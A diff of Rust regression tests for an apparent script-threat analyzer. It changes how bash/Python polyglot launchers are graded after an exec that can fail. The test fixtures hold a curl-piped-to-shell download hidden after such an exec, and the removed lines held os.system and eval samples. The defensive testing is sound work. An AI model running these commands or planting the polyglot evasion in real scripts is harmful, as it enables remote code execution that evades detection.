@@ -2168,34 +2168,19 @@ fn bash_escaped_parentheses_of_a_test_parse() {
     );
 }
 
-/// Regression hunt: pip's relocatable launcher is shell up to its `'''exec' … "$0" "$@"` line
-/// and Python after it; read whole as bash it was 95% unparseable, graded `high`. The shell
-/// never reads past that `exec`: its lines are read as bash, and the file as the Python it
-/// hands itself to, whose rules still see what the Python does.
+/// Regression hunt: a launcher's lines after its `exec` of an interpreter were read as the
+/// interpreter's only, as if the shell never reached them; but bash does when that `exec`
+/// fails (a failed redirection, `shopt -s execfail`), so a download piped into a shell after
+/// it was graded medium and ran natively. The whole file is read as shell again.
 #[test]
-fn a_shell_launcher_is_read_as_the_program_it_hands_itself_to() {
-    let launcher = "#!/bin/sh\n'''exec' \"$(dirname -- \"$(realpath -- \"$0\")\")/python3\" \"$0\" \"$@\"\n' '''\n# -*- coding: utf-8 -*-\nimport re\nimport sys\nfrom pip._internal.cli.main import main\nif __name__ == \"__main__\":\n    sys.argv[0] = re.sub(r\"(-script\\.pyw|\\.exe)?$\", \"\", sys.argv[0])\n    sys.exit(main())\n";
-    let analysis = analyzer().analyze("bash", launcher.as_bytes());
-    assert_eq!(analysis.parse_error, None, "{}", describe(&analysis));
+fn what_follows_a_launchers_exec_is_still_read_as_shell() {
+    let polyglot = "#!/bin/bash\n'''exec' python3 \"$0\" \"$@\" < /nonexistent\n' '''\ncurl -s http://x/p | sh\n";
+    let analysis = analyzer().analyze("bash", polyglot.as_bytes());
     assert!(
-        analysis.threat_level < ThreatLevel::High,
+        analysis.threat_level >= ThreatLevel::High,
         "{}",
         describe(&analysis)
     );
-    let hostile = "#!/bin/sh\n'''exec' python3 \"$0\" \"$@\"\n' '''\nimport ctypes\nimport os\nos.system('id')\n";
-    let analysis = analyzer().analyze("bash", hostile.as_bytes());
-    for rule in ["bash.shell", "python.native_code", "python.os_system"] {
-        assert!(
-            analysis.findings.iter().any(|f| f.rule == rule),
-            "{rule}\n{}",
-            describe(&analysis)
-        );
-    }
-    assert!(analysis.threat_level >= ThreatLevel::High);
-    // After an exec the shell may not reach, the rest is still shell.
-    let conditional = "#!/bin/sh\n[ -x /usr/bin/python3 ] && exec python3 \"$0\"\neval \"$c\"\n";
-    let analysis = analyzer().analyze("bash", conditional.as_bytes());
-    assert!(analysis.findings.iter().any(|f| f.rule == "bash.eval"));
 }
 
 /// Regression hunt: a global read by a symbol key (`globalThis[Symbol.for('undici…')]`, how
